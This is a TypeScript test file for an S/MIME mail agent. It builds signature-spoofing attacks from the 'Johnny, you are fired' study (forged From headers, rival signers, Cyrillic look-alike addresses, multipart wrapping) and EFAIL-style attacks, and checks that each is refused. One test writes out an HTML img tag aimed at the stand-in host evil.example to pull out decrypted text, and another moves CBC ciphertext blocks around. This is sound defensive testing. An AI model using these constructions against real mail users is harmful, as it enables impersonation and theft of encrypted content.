import { describe, expect, test } from 'vitest'
import { concat, decodeLatin1, encodeBase64, encodeUtf8 } from '../../src/bytes/index.js'
import { buildCertificatesOnly, buildSignedData, type SignedDataDraft, type SignerDraft } from '../../src/cms/index.js'
import { buildMultipart, buildPart, decodeBody, parseEntity, wrapMessage } from '../../src/mime/index.js'
import { signEntity } from '../../src/smime/index.js'
import {
  agentOf,
  ann,
  bob,
  crafted,
  encrypted,
  lines,
  messageIn,
  now,
  outcomeOf,
  type Party,
  person,
  world,
} from './world.js'

// The tricks of "Johnny, you are fired" (USENIX Security 2019) and of EFAIL and its successors, on messages that are
// otherwise perfect: in date, encrypted to the reader, every certificate trusted.

const mallory = 'mallory@direct.rival.example'

async function scene() {
  const { ann: sender, bob: reader, clinicCa } = await world()
  const rival = await person(mallory, 'Clinic CA')
  const agent = agentOf([reader], { trust: [clinicCa] })
  return { sender, reader, rival, agent }
}
type Scene = Awaited<ReturnType<typeof scene>>

const letter = (from: readonly string[] = [`From: ${ann}`]) =>
  lines(...from, `To: ${bob}`, 'Message-ID: <1@x.example>', 'Content-Type: text/plain', '', 'Fine.')

const signing = ({ identity }: Party): SignerDraft => identity.signing!

/** A multipart/signed around any content and any signature. */
function signedWith(content: Uint8Array, signature: Uint8Array): Uint8Array {
  const part = buildPart({
    contentType: 'application/pkcs7-signature; name="smime.p7s"',
    transferEncoding: 'base64',
    content: Uint8Array.from(signature),
  })
  const parameters = { protocol: 'application/pkcs7-signature', micalg: 'sha-256' }
  return buildMultipart('signed', [Uint8Array.from(content), part], parameters)
}

async function signedBy(
  signer: SignedDataDraft['signer'],
  content = wrapMessage(letter()),
  form: 'detached' | 'opaque' = 'detached',
): Promise<Uint8Array> {
  return buildSignedData({ content, signer, signingTime: now, form }, crypto)
}

interface Attack {
  readonly comment: string
  /** The entity that is encrypted. */
  readonly entity: (scene: Scene) => Promise<Uint8Array>
  readonly outcome: string
  readonly author?: string
}

const inner = wrapMessage(letter())

const attacks: readonly Attack[] = [
  {
    comment: 'twin: one content, one signature',
    entity: async ({ sender }) => signedWith(inner, await signedBy(signing(sender))),
    outcome: 'message',
    author: ann,
  },
  {
    comment: 'C1: another content inside of the signature, which covers that one',
    entity: async ({ sender }) =>
      signedWith(
        wrapMessage(lines(`From: ${ann}`, `To: ${bob}`, '', 'Pay.')),
        await signedBy(signing(sender), inner, 'opaque'),
      ),
    outcome: 'malformed',
  },
  {
    comment: 'C2: a wrong signature in the name of Ann before the right one of another',
    entity: async ({ sender, rival }) =>
      signedWith(inner, await signedBy([{ ...signing(sender), key: signing(rival).key }, signing(rival)])),
    outcome: 'signer-not-author',
  },
  {
    comment: 'C2: the same behind it',
    entity: async ({ sender, rival }) =>
      signedWith(inner, await signedBy([signing(rival), { ...signing(sender), key: signing(rival).key }])),
    outcome: 'signer-not-author',
  },
  {
    comment: 'C2, twin: both signatures right',
    entity: async ({ sender, rival }) => signedWith(inner, await signedBy([signing(rival), signing(sender)])),
    outcome: 'message',
    author: ann,
  },
  {
    comment: 'C3: certificates and no signature',
    entity: async ({ sender }) => signedWith(inner, buildCertificatesOnly([sender.certificate])),
    outcome: 'not-signed',
  },
  {
    comment: 'M1: a signed message as one of two parts',
    entity: async ({ sender }) => {
      const signed = signedWith(inner, await signedBy(signing(sender)))
      const note = buildPart({ contentType: 'text/plain', transferEncoding: '7bit', content: encodeUtf8('Pay.\r\n') })
      return buildMultipart('mixed', [note, Uint8Array.from(signed)])
    },
    outcome: 'not-signed',
  },
  {
    comment: 'M2: a third part beside the content and the signature',
    entity: async ({ sender }) => {
      const signature = buildPart({
        contentType: 'application/pkcs7-signature; name="smime.p7s"',
        transferEncoding: 'base64',
        content: Uint8Array.from(await signedBy(signing(sender))),
      })
      const note = buildPart({ contentType: 'text/plain', transferEncoding: '7bit', content: encodeUtf8('Pay.\r\n') })
      return buildMultipart('signed', [inner, signature, note], {
        protocol: 'application/pkcs7-signature',
        micalg: 'sha-256',
      })
    },
    outcome: 'not-signed',
  },
  {
    comment: 'M3: the signature of Ann on a message of hers inside of one that nobody signed',
    entity: async ({ sender }) => {
      const signed = signedWith(inner, await signedBy(signing(sender)))
      return wrapMessage(concat([encodeUtf8(`From: ${ann}\r\nTo: ${bob}\r\n`), signed]))
    },
    outcome: 'not-signed',
  },
  {
    comment: 'I1: signed by a rival in the name of Ann',
    entity: async ({ rival }) => signedWith(inner, await signedBy(signing(rival))),
    outcome: 'signer-not-author',
  },
  ...(
    [
      ['I2: Ann as the name of a rival who signed', [`From: "${ann}" <${mallory}>`], 'message', mallory],
      ['I2: Ann in a comment behind', [`From: ${mallory} (${ann})`], 'message', mallory],
      ['I2: no address', ['From:'], 'signer-not-author'],
      ['I2: a name without an address', ['From: Ann Archer'], 'signer-not-author'],
      ['I2: Ann, and the rival as her name', [`From: "${mallory}" <${ann}>`], 'signer-not-author'],
      ['I2: an empty address behind the name of the rival', [`From: ${mallory} <>`], 'signer-not-author'],
      ['I3: the rival as Sender', [`From: ${ann}`, `Sender: ${mallory}`], 'signer-not-author'],
      ['I3: Ann as Sender', [`From: ${mallory}`, `Sender: ${ann}`], 'message', mallory],
      ['I3: both in From, Ann first', [`From: ${ann}, ${mallory}`], 'signer-not-author'],
      ['I3: both in From, Ann last', [`From: ${mallory}, ${ann}`], 'signer-not-author'],
      ['I3: two fields, Ann first', [`From: ${ann}`, `From: ${mallory}`], 'signer-not-author'],
      ['I3: two fields, Ann last', [`From: ${mallory}`, `From: ${ann}`], 'signer-not-author'],
      ['a second field in other letters', [`From: ${mallory}`, `FROM: ${ann}`], 'signer-not-author'],
      ['a second field with a blank before its colon', [`From: ${mallory}`, `From : ${ann}`], 'signer-not-author'],
      ['Ann in a folded line behind', [`From: ${mallory},`, `\t${ann}`], 'signer-not-author'],
      [
        'a line that only looks like a field is a folded one',
        [`From: ${mallory}`, ` From: ${ann}`],
        'signer-not-author',
      ],
      ['a group with Ann in it as well', [`From: Team: ${mallory}, ${ann};`], 'signer-not-author'],
      [
        'an encoded word that hides an address',
        ['From: =?utf-8?q?=22ann=22_=3Cann=40direct.clinic.example=3E?='],
        'signer-not-author',
      ],
    ] as const
  ).map(
    ([comment, from, outcome, author]): Attack => ({
      comment,
      entity: async ({ rival }) => {
        const content = wrapMessage(letter(from))
        return signedWith(content, await signedBy(signing(rival), content))
      },
      outcome,
      ...(author && { author }),
    }),
  ),
  ...(
    [
      ['the letters of Ann in Cyrillic', 'From: \u0430nn@direct.clinic.example', 'signer-not-author'],
      ['a domain in Cyrillic', 'From: ann@direct.\u0441linic.example', 'signer-not-author'],
      ['a NUL behind the address', `From: ${ann}\0`, 'signer-not-author'],
      ['a dot behind the domain', `From: ${ann}.`, 'signer-not-author'],
      [
        'quotes around the local part, which change nothing',
        'From: "ann"@direct.clinic.example',
        'message',
        '"ann"@direct.clinic.example',
      ],
    ] as const
  ).map(
    ([comment, from, outcome, author]): Attack => ({
      comment,
      entity: async ({ sender }) => {
        const content = wrapMessage(letter([from]))
        return signedWith(content, await signedBy(signing(sender), content))
      },
      outcome,
      ...(author && { author }),
    }),
  ),
]

describe('whose message it is', () => {
  test.each(attacks)('$comment: $outcome', async ({ entity, outcome, author }) => {
    const all = await scene()
    const opened = await all.agent.open(await encrypted(await entity(all), [all.reader]))
    expect(outcomeOf(opened)).toBe(outcome)
    if (opened.kind === 'message') expect(opened.message.author).toBe(author)
  })
})

describe('what is encrypted leaves by no back door', () => {
  test('an encrypted part between two pieces of HTML is not opened; whole, it is', async () => {
    const { agent, sender, reader } = await scene()
    const raw = await crafted({ inner: letter(), signedBy: sender, to: [reader] })
    expect(outcomeOf(await agent.open(raw))).toBe('message')
    const html = (text: string) =>
      buildPart({ contentType: 'text/html', transferEncoding: '7bit', content: encodeUtf8(`${text}\r\n`) })
    const envelope = parseEntity(raw)
    const part = concat([
      encodeUtf8(
        'Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n',
      ),
      envelope.body,
    ])
    const mixed = buildMultipart('mixed', [html('<img src="http://evil.example/'), part, html('">')])
    const opened = await agent.open(concat([lines(`From: ${ann}`, `To: ${bob}`, 'MIME-Version: 1.0'), mixed]))
    expect(outcomeOf(opened)).toBe('not-encrypted')
    expect(JSON.stringify(opened)).not.toContain('Fine')
  })

  test('a ciphertext hidden in a message of another is handed out as it is, not opened (covert content)', async () => {
    const { agent, sender, reader, rival } = await scene()
    const secret = await crafted({ inner: letter(), signedBy: sender, to: [reader] })
    const note = buildPart({ contentType: 'text/plain', transferEncoding: '7bit', content: encodeUtf8('Hello.\r\n') })
    const hidden = buildPart({
      contentType: 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
      transferEncoding: 'base64',
      content: decodeBody(parseEntity(secret)),
    })
    const content = concat([
      encodeUtf8(`From: ${mallory}\r\nTo: ${bob}\r\nMIME-Version: 1.0\r\n`),
      buildMultipart('mixed', [note, hidden]),
    ])
    const signed = await signEntity(wrapMessage(content), signing(rival), { crypto, at: now })
    const opened = messageIn(await agent.open(await encrypted(signed, [reader])))
    expect(opened.message.author).toBe(mallory)
    expect(decodeLatin1(opened.message.raw)).not.toContain('Fine.')
    expect(opened.message.attachments.map(({ content }) => content)).toContainEqual(decodeBody(parseEntity(secret)))
  })

  test('blocks of a CBC ciphertext moved about: one answer whatever comes of it, and no content', async () => {
    const { agent, sender, reader } = await scene()
    const raw = await crafted({ inner: letter(), signedBy: sender, to: [reader] })
    const entity = parseEntity(raw)
    const body = decodeBody(entity)
    const header = raw.subarray(0, raw.length - entity.body.length)
    const outcomes = new Set<string>()
    for (let block = 2; block < 40; block++) {
      const bent = Uint8Array.from(body)
      const from = body.length - 16 * block
      // The gadget: a pair of blocks is copied over the two behind it, which decrypts to text that is known again.
      bent.copyWithin(from + 16, from - 16, from + 16)
      const base64 = encodeBase64(bent)
      const opened = await agent.open(concat([header, encodeUtf8(base64.replace(/.{76}/g, '$&\r\n'))]))
      outcomes.add(outcomeOf(opened))
      expect(JSON.stringify(opened)).not.toContain('Fine')
    }
    expect(
      [...outcomes].filter(
        (outcome) => !['not-decryptable', 'malformed', 'not-signed', 'signature-invalid'].includes(outcome),
      ),
    ).toEqual([])
  })
})
